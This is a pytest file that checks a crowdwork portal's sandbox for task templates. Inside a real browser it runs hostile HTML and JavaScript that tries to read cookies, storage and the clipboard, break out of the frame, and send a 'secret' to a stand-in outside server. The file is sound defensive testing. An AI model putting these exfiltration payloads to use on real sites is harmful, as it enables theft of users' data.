"""Templates that mean harm: what each tries is asserted, in a real browser."""

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest

HEAD = """<script>
const results = {};
const attempt = async (name, act) => {
  const patience = new Promise((resolve) => setTimeout(() => resolve('nothing came'), 1500));
  try {
    results[name] = String(await Promise.race([act(), patience]));
  } catch (error) {
    results[name] = 'refused: ' + error.name;
  }
};
const settled = (act) => new Promise(act);
const abroad = '{{ task.input.abroad }}';
const submit = () => parent.postMessage({type: 'crowd:submit', answer: results, seconds: 0.1}, '*');
</script>"""
ESCAPES = (
    HEAD
    + """<base href="{{ task.input.abroad }}/base/">
<link rel="dns-prefetch" href="{{ task.input.abroad }}"><link rel="preconnect" href="{{ task.input.abroad }}">
<link rel="prefetch" href="{{ task.input.abroad }}/prefetch">
<link rel="stylesheet" href="{{ task.input.abroad }}/style">
<style>
  @import url("{{ task.input.abroad }}/import");
  @font-face { font-family: stolen; src: url("{{ task.input.abroad }}/font"); }
  input[value^="s"] { background: url("{{ task.input.abroad }}/css"); }
  p { font-family: stolen; border-image: url("{{ task.input.abroad }}/border") 1; }
</style>
<input value="secret"><p>text</p>
<script>
(async () => {
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('database', () => indexedDB.open('x') && 'opened');
  await attempt('caches', () => caches.open('x'));
  await attempt('shell', () => parent.document.title);
  await attempt('sibling', () => parent.frames[1] ? parent.frames[1].document.title : parent.frames[0].document.title);
  await attempt('other task', () => fetch('{{ task.input.portal }}/portal/tasks/{{ task.input.other }}/frame'));
  await attempt('xhr', () => settled((done, fail) => {
    const request = new XMLHttpRequest();
    request.onload = () => done('loaded');
    request.onerror = () => fail(new DOMException('', 'NetworkError'));
    request.open('GET', abroad + '/xhr');
    request.send();
  }));
  await attempt('socket', () => settled((done, fail) => {
    const socket = new WebSocket(abroad.replace('http', 'ws') + '/socket');
    socket.onopen = () => done('open');
    socket.onerror = () => fail(new DOMException('', 'NetworkError'));
  }));
  await attempt('events', () => settled((done, fail) => {
    const events = new EventSource(abroad + '/events');
    events.onopen = () => done('open');
    events.onerror = () => fail(new DOMException('', 'NetworkError'));
  }));
  await attempt('top', () => { top.location = abroad + '/top'; return 'gone'; });
  await attempt('parent', () => { parent.location.href = abroad + '/parent'; return 'gone'; });
  await attempt('popup', () => open(abroad + '/popup'));
  await attempt('worker', () => settled((done, fail) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = () => done('runs');
    worker.onerror = () => fail(new DOMException('', 'NetworkError'));
  }));
  await attempt('service worker', () => navigator.serviceWorker.register('/elements/index.js'));
  await attempt('frame', () => settled((done) => {
    const frame = document.createElement('iframe');
    frame.src = abroad + '/frame';
    frame.onload = () => { try { done(frame.contentDocument ? 'blank' : 'shut'); } catch (error) { done('shut'); } };
    document.body.append(frame);
  }));
  await attempt('object', () => settled((done, fail) => {
    const object = document.createElement('object');
    object.data = abroad + '/object';
    object.onload = () => done('loaded');
    object.onerror = () => fail(new DOMException('', 'NotLoaded'));
    document.body.append(object);
  }));
  await attempt('script', () => settled((done, fail) => {
    const script = document.createElement('script');
    script.src = abroad + '/script';
    script.onload = () => done('loaded');
    script.onerror = () => fail(new DOMException('', 'NotLoaded'));
    document.body.append(script);
  }));
  await attempt('dialog', () => { alert('x'); return typeof prompt('password?'); });
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt('full screen', () => document.documentElement.requestFullscreen());
  await attempt('beacon', () => navigator.sendBeacon(abroad + '/beacon', 'x') && 'queued');
  setTimeout(submit, 1000);
})();
</script>"""
)
REFUSED = {
    "cookie", "storage", "database", "caches", "shell", "sibling", "other task", "xhr", "socket", "events", "top",
    "parent", "worker", "service worker", "script", "object", "camera", "clipboard", "full screen",
}  # fmt: skip


class Abroad(ThreadingHTTPServer):
    """A server elsewhere that writes down what reaches it."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _Listener)
        self.heard = []
        self.url = f"http://127.0.0.1:{self.server_address[1]}"


class _Listener(BaseHTTPRequestHandler):
    def _answer(self):
        self.server.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_HEAD = _answer  # noqa: N815 - as http.server calls them

    def log_message(self, *_):
        """Be quiet."""


@pytest.fixture
def abroad():
    server = Abroad()
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def sits_before(service, new_job, new_screen):
    """Open a template as a worker."""

    def make(template, **task_input):
        job = new_job(template=template)
        loop = job.starts_loop(**task_input)
        screen = new_screen(service.employs("ann", job.group)).signs_in()
        screen.page.get_by_role("button", name="Start working").click()
        return screen, job, loop

    return make


def test_every_way_out_is_shut(service, new_job, sits_before, abroad, written):
    other_job = new_job()
    other_job.starts_loop()
    bob = service.employs("bob", other_job.group)
    bob.signs_in()
    task_input = {"abroad": abroad.url, "portal": service.url, "other": bob.starts_working(other_job.name)}
    screen, job, loop = sits_before(ESCAPES, **task_input)
    popups = []
    screen.context.on("page", lambda popup: popups.append(popup.url))
    screen.page.wait_for_url("**/portal/?finished=*")

    results = written(job.becomes(loop, "Completed"))["humanAnswers"][0]["answerContent"]
    refused = {name for name, result in results.items() if result.startswith("refused: ")}
    assert refused >= REFUSED, {name: results.get(name) for name in REFUSED - refused}
    assert results["popup"] == "null"
    assert results["frame"] in {"shut", "blank", "nothing came"}
    assert results["dialog"] == "object", "prompt answers null at once"
    assert set(results) - refused <= {"popup", "frame", "dialog", "beacon"}
    assert popups == []
    assert abroad.heard == [], "nothing was heard abroad, whatever the attempts believed"


@pytest.mark.parametrize(
    "leaving",
    [
        "<script>setTimeout(() => { location = abroad + '/left?with=' + encodeURIComponent('secret'); })</script>",
        '<meta http-equiv="refresh" content="0;url={{ task.input.abroad }}/left">',
        '<a id="a" href="{{ task.input.abroad }}/left">x</a><script>a.click()</script>',
        '<a id="a" href="#" ping="{{ task.input.abroad }}/ping">x</a><script>a.click()</script>',
        '<a id="a" target="_top" href="{{ task.input.abroad }}/top">x</a><script>a.click()</script>',
        '<a id="a" download="x.exe" href="data:application/octet-stream,x">x</a><script>a.click()</script>',
        '<form id="f" action="{{ task.input.abroad }}/f" method="post"><input></form><script>f.submit()</script>',
        '<form id="f" action="{{ task.input.abroad }}/f"><input name="a"></form><script>f.submit()</script>',
        '<form id="f" action="{{ task.input.abroad }}/f" target="_top"><input></form><script>f.submit()</script>',
    ],
)
def test_a_template_cannot_leave_with_what_it_read(sits_before, abroad, leaving):
    screen, _, _ = sits_before(HEAD + leaving, abroad=abroad.url)
    downloads = []
    screen.page.on("download", lambda download: downloads.append(download.url))
    screen.page.wait_for_timeout(1500)
    assert (abroad.heard, downloads) == ([], [])
    assert "/portal/tasks/" in screen.page.url


def test_calls_between_browsers_are_not_made(sits_before, written):
    peer = """<script>(async () => {
      const seen = [];
      try {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] });
        peer.onicecandidate = (event) => event.candidate && seen.push(event.candidate.candidate);
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((done) => setTimeout(done, 1500));
      } catch (error) { seen.push('refused: ' + error.name); }
      parent.postMessage({ type: 'crowd:submit', answer: { seen }, seconds: 0 }, '*');
    })();</script>"""
    screen, job, loop = sits_before(peer)
    screen.page.wait_for_url("**/portal/?finished=*")
    seen = written(job.becomes(loop, "Completed"))["humanAnswers"][0]["answerContent"]["seen"]
    assert seen == ["refused: ReferenceError"]


@pytest.mark.parametrize(
    ("message", "said"),
    [
        ("{ answer: [1, 2], seconds: 1 }", "not an answer"),
        ("{ answer: 'text', seconds: 1 }", "not an answer"),
        ("{ answer: null, seconds: 1 }", "not an answer"),
        ("{ answer: new Map([[1, 2]]), seconds: 1 }", "not an answer"),
        ("{ answer: {}, seconds: NaN }", "not an answer"),
        ("{ answer: {}, seconds: -1 }", "not an answer"),
        ("{ answer: {}, seconds: '1' }", "not an answer"),
        ("{ answer: {} }", "not an answer"),
        ("{ answer: { huge: 10n ** 30n }, seconds: 1 }", "not an answer"),
        ("(() => { const own = {}; own.own = own; return { answer: own, seconds: 1 }; })()", "not an answer"),
        ("{ answer: { text: 'x'.repeat(5000000) }, seconds: 1 }", "larger than 4 MB"),
    ],
)
def test_what_is_no_answer_is_refused_in_words(service, sits_before, message, said):
    screen, _, _ = sits_before(f"<script>parent.postMessage({{ type: 'crowd:submit', ...{message} }}, '*')</script>")
    screen.page.get_by_role("alert").filter(has_text=said).wait_for()

    task = screen.page.url.rsplit("/", 1)[1]
    assert service.reads("SELECT state, answer, draft FROM claims WHERE id = :id", id=task) == [("held", None, None)]


def test_half_a_character_costs_no_work(sits_before, written):
    """A script may cut a character in two; the service refuses halves, so the page mends them before it sends."""
    message = "{ type: 'crowd:submit', answer: { note: 'a cat \\ud83d', rest: ['\\udc08x'] }, seconds: 3 }"
    screen, job, loop = sits_before(f"<script>parent.postMessage({message}, '*')</script>")
    screen.page.wait_for_url("**/portal/?finished=*")
    answer = written(job.becomes(loop, "Completed"))["humanAnswers"][0]["answerContent"]
    assert answer == {"note": "a cat \ufffd", "rest": ["\ufffdx"]}


def test_noise_is_not_heard(service, sits_before):
    noise = """<script>
      for (const data of [null, 1, 'crowd:submit', [], {}, { type: 1 }, { type: 'crowd:restored', left: 'x' },
        { type: 'crowd:dirty', dirty: 'very' }, { type: 'crowd:draft', answer: 1 }, { type: 'shell:error' }]) {
        parent.postMessage(data, '*');
      }
      for (let count = 0; count < 2000; count += 1) parent.postMessage({ type: 'crowd:ready' }, '*');
    </script><p id="there">there</p>"""
    screen, _, _ = sits_before(noise)
    screen.frame.get_by_text("there").wait_for()
    screen.page.wait_for_timeout(500)

    assert screen.page.locator(".notices .notice:visible").count() == 0
